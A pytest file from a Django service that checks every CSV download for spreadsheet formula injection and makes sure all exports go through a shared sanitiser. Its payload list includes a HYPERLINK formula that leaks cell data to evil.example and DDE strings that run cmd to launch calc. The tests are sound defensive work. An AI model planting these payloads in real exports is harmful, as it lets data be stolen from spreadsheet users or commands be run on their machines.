"""CSV formula injection in every export: text that a spreadsheet would run (= + - @ tab CR, and their full-width
twins) comes out neutralised, whichever column it lands in.

Two layers: every module that writes CSV for a download goes through core.csv_export (a structural check, so a new
export cannot bypass it), and each export is downloaded with hostile text in every text column it shows.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse

from core.csv_export import FORMULA_PREFIXES
from core.services import audit_record
from tests.accounts.factories import SchoolFactory, programme_admin, with_two_factor
from tests.wands.factories import WandRequestFactory, fulfilment_staff

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
PROJECT = Path(settings.BASE_DIR)
# Files that write CSV which nobody downloads from the service (a generated GIAS-format file for demo imports).
# Generated GIAS-format input files for the demo register (read by the importer, never downloaded by anyone).
NOT_DOWNLOADS = {"schools/demo_generator.py", "schools/demo.py"}
APPS = [
    "core",
    "schools",
    "accounts",
    "wands",
    "officers",
    "stepping_stones",
    "education_toolkit",
    "public",
    "insights",
]


def cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def is_number(cell: str) -> bool:
    return bool(re.fullmatch(r"-?\d+(\.\d+)?", cell))


def assert_neutralised(response, hostile=HOSTILE):
    found = cells(response)
    dangerous = [c for c in found if c.lstrip(" ").startswith(FORMULA_PREFIXES) and not is_number(c)]
    assert not dangerous, f"cells a spreadsheet would run as formulas: {dangerous}"
    # And the hostile text did reach the export (a probe that put it nowhere would prove nothing).
    assert any(c.startswith("'") for c in found), "no hostile value reached this export"


def test_every_csv_download_in_the_code_goes_through_core_csv_export():
    """No module builds a CSV download by hand: `csv.writer` and text/csv responses live in core.csv_export only."""
    offenders = []
    for app in APPS:
        for path in (PROJECT / app).rglob("*.py"):
            relative = str(path.relative_to(PROJECT))
            if "migrations" in path.parts or path.name == "csv_export.py" or relative in NOT_DOWNLOADS:
                continue
            source = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", source) or re.search(
                r"HttpResponse\([^)]*content_type=[\"']text/csv", source
            ):
                offenders.append(relative)
    assert not offenders, f"CSV written outside core.csv_export (formula injection unchecked): {offenders}"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_wand_queue_export(client: Client, hostile):
    school = SchoolFactory(name=hostile)
    WandRequestFactory(school=school, decision_reason=hostile, courier=hostile, tracking_reference=hostile)
    client.force_login(with_two_factor(programme_admin()))
    assert_neutralised(client.get(reverse("wands:export_csv")), [hostile])


@pytest.mark.parametrize("hostile", HOSTILE)
def test_dispatch_list_for_the_courier(client: Client, hostile):
    WandRequestFactory(
        approved=True,
        school=SchoolFactory(name=hostile),
        contact_name=hostile,
        contact_phone=hostile[:30],  # the column holds 30 characters (PostgreSQL enforces it)
        delivery_address=f"{hostile}\n1 High Street",
        delivery_postcode=hostile[:10],
    )
    client.force_login(with_two_factor(fulfilment_staff()))
    assert_neutralised(client.get(reverse("wands:dispatch_list_csv")), [hostile])


@pytest.mark.parametrize("hostile", HOSTILE)
def test_audit_export(client: Client, hostile):
    admin = with_two_factor(programme_admin())
    audit_record(actor=admin, verb="group.renamed", target=Group.objects.create(name=hostile[:150]), reason=hostile)
    client.force_login(admin)
    assert_neutralised(client.get(reverse("audit:export")), [hostile])


@pytest.mark.parametrize("hostile", HOSTILE)
def test_vru_updates_consent_records_export(client: Client, hostile):
    from public.models import ConsentStatement, Topic
    from tests.public.factories import ConsentRecordFactory, defaults

    defaults()
    statement = ConsentStatement.objects.create(version=999, text=hostile)
    topic = Topic.objects.create(slug="hostile", name=hostile[:120], order=0)
    ConsentRecordFactory(statement=statement, topics=[topic])
    client.force_login(with_two_factor(programme_admin()))
    assert_neutralised(client.get(reverse("public:updates_export")), [hostile])


def test_open_figures_datasets(client: Client):
    """Open data (counts by borough, toolkit downloads by title): no cell a spreadsheet would run, in any dataset."""
    from public.selectors import OPEN_DATASETS
    from tests.education_toolkit.factories import ResourceFactory

    ResourceFactory(title='=HYPERLINK("http://evil.example","Open me")')
    for dataset in OPEN_DATASETS:
        response = client.get(reverse("public-api:figures-csv", kwargs={"dataset": dataset}))
        assert response.status_code == 200, dataset
        dangerous = [c for c in cells(response) if c.lstrip(" ").startswith(FORMULA_PREFIXES) and not is_number(c)]
        assert not dangerous, (dataset, dangerous)
